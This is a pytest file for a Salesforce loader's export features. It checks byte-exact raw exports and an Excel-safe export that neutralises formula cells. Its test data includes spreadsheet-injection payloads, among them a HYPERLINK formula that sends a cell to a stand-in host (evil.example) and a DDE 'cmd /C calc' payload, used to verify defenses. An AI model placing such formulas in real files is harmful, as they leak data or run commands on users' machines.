"""Exports: the raw copy is Salesforce's bytes, the Excel-safe copy can never run a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from sfloader_gui.core.review.export import (
    INFO_COLUMNS,
    ExportError,
    excel_safe,
    export_excel_safe,
    export_raw,
)
from sfloader_gui.core.review.session import ReviewSession
from tests.core.review.emulator_runs import connect, load_mapped
from tests.core.review.runfolders import make_run

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTAB first",
    "\rCR first",
    "\nLF first",
    '";=cmd|" /C calc"!A0',
    "\0NUL first",
    "plain, with comma",
]


@pytest.fixture
def formula_run(tmp_path: Path) -> Path:
    rows = [[f"F-{i}", value, "note"] for i, value in enumerate(DANGEROUS)]
    error = "FIELD_CUSTOM_VALIDATION_EXCEPTION:Name looks like a formula:Name --"
    return make_run(
        tmp_path,
        {"formulas.csv": (["External_Id__c", "Name", "Note"], rows)},
        {"formulas.csv": {r[0]: error for r in rows}},
    )


def test_excel_safe_round_trip(formula_run: Path, tmp_path: Path) -> None:
    session = ReviewSession(formula_run)
    dest = tmp_path / "out" / "excel.csv"
    assert export_excel_safe(session, range(session.row_count), dest) == len(DANGEROUS)
    data = dest.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    names = [r[header.index("Name")] for r in body]
    for original, shown in zip(DANGEROUS, names, strict=True):
        if original[0] in "=+-@\t\r\n\0":
            assert shown == "'" + original  # neutralised: a spreadsheet shows it as text
        else:
            assert shown == original
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))
    # every cell is quoted on disk and inner quotes doubled, so `";=` cannot break out of its cell
    assert b'""";=cmd|"" /C calc""!A0"' in data
    assert b'"plain, with comma"' in data
    assert header[:5] == ["Outcome", "Source file", "Source row", "Job ID", "Error code"]
    assert body[0][:1] + body[0][4:5] == ["Failed", "FIELD_CUSTOM_VALIDATION_EXCEPTION"]
    assert body[0][header.index("What it means")].startswith("A validation rule of your org refused the row")


def test_raw_export_is_byte_for_byte(formula_run: Path, tmp_path: Path) -> None:
    session = ReviewSession(formula_run)
    failed = next(formula_run.glob("jobs/*/failed.csv")).read_bytes()
    dest = tmp_path / "raw.csv"
    assert export_raw(session, range(session.row_count), dest) == [dest]
    assert dest.read_bytes() == failed
    some = tmp_path / "some.csv"
    export_raw(session, [0, 3, 7], some)
    lines = failed.split(b"\n")
    assert some.read_bytes() == b"\n".join([lines[0], lines[1], lines[4]]) + b"\n" + session.files[
        0
    ].index.raw(7)


def test_raw_export_splits_files_with_other_headers(tmp_path: Path) -> None:
    run = make_run(
        tmp_path,
        {"a.csv": (["External_Id__c", "Name"], [["1", ""], ["2", "x"]])},
        {"a.csv": {"1": "REQUIRED_FIELD_MISSING:Required fields are missing: [Name]:Name --"}},
        unprocessed={"a.csv": ["2"]},
    )
    session = ReviewSession(run)
    written = export_raw(session, range(session.row_count), tmp_path / "both.csv")
    assert [p.name for p in written] == ["both.csv", "both_2.csv"]
    assert written[1].read_bytes() == b'External_Id__c,Name\n"2","x"\n'


def test_exports_never_overwrite_a_results_file(formula_run: Path) -> None:
    session = ReviewSession(formula_run)
    failed = next(formula_run.glob("jobs/*/failed.csv"))
    before = failed.read_bytes()
    with pytest.raises(ExportError, match="never overwritten"):
        export_raw(session, [0], failed)
    assert failed.read_bytes() == before


def test_excel_safe_cell_rule() -> None:
    assert excel_safe("=1") == "'=1"
    assert excel_safe("a=1") == "a=1"
    assert excel_safe("") == ""


def test_block_reads_and_row_reads_agree_and_keep_the_order_given(formula_run: Path, tmp_path: Path) -> None:
    session = ReviewSession(formula_run)
    rows = list(range(session.row_count))
    by_block = [(r, info.error, values) for r, info, values in session.iter_bundles(rows)]
    one_by_one = [(r, *session.bundle(r)) for r in rows]
    assert [(r, i.error, v) for r, i, v in one_by_one] == by_block
    backwards = [r for r, _, _ in session.iter_bundles(rows[::-1])]
    assert backwards == rows[::-1]
    export_excel_safe(session, rows[::-1], tmp_path / "reversed.csv")
    with (tmp_path / "reversed.csv").open(newline="", encoding="utf-8-sig") as f:
        ids = [r[9] for r in list(csv.reader(f))[1:]]
    assert ids == [f"F-{i}" for i in reversed(range(len(DANGEROUS)))]


def test_excel_safe_export_of_a_mapped_file_shows_the_values_as_sent_beside_converted_ones(
    emulator: Any, tmp_path: Path
) -> None:
    """The source columns under their own headers (ignored ones too), and "<column> (as sent)" beside each
    converted column: the value Salesforce received where it differs from the file's."""
    src = tmp_path / "us.csv"
    src.write_text(
        "External Id,Account Name,Customer Since,Active Customer,Owner Notes\n"
        "E1,Acme,12/31/2026,Yes,fine\n"
        "E2,,1/2/2026,No,no name yet\n"
        "E3,,2026-03-04,true,sent as it is\n",
        encoding="utf-8",
    )
    with connect(emulator) as conn:
        run = load_mapped(conn, src, "Account", tmp_path, ignore=("Owner Notes",))
    session = ReviewSession(run.run_dir)
    try:
        session.build_joins()
        dest = tmp_path / "failed_excel.csv"
        assert export_excel_safe(session, range(session.row_count), dest) == 2
    finally:
        session.close()
    with dest.open(encoding="utf-8-sig", newline="") as f:
        header, *rows = list(csv.reader(f))
    data = header[len(INFO_COLUMNS) :]
    assert data == [
        "External Id", "Account Name", "Customer Since", "Customer Since (as sent)",
        "Active Customer", "Active Customer (as sent)", "Owner Notes",
    ]  # fmt: skip
    got = {r[len(INFO_COLUMNS)]: r[len(INFO_COLUMNS) :] for r in rows}
    assert got["E2"] == ["E2", "", "1/2/2026", "2026-01-02", "No", "false", "no name yet"]
    # Values already in Salesforce's form were sent as the file has them: nothing beside them.
    assert got["E3"] == ["E3", "", "2026-03-04", "", "true", "", "sent as it is"]
